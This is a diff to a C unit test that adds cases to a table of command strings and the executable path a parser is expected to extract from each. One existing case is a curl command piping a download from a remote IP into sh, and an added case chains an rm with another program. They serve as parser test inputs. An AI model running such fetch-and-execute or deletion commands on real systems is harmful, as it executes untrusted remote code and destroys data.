@@ -42,6 +42,10 @@ static void the_file_a_command_runs(void **state)
 		{ "curl http://198.51.100.7/x | sh", "" },
 		{ "export PATH=/a:/b", "" },
 		{ "run 2>/dev/null", "" },
+		{ "ssh -i /tmp/key host", "" },
+		{ "rm -f /var/lib/.stamp; /opt/a", "/opt/a" },
+		{ "\"/root/.acme.sh\"/acme.sh --cron",
+		  "/root/.acme.sh/acme.sh" },
 		{ "", "" },
 		{ "'", "" },
 	};
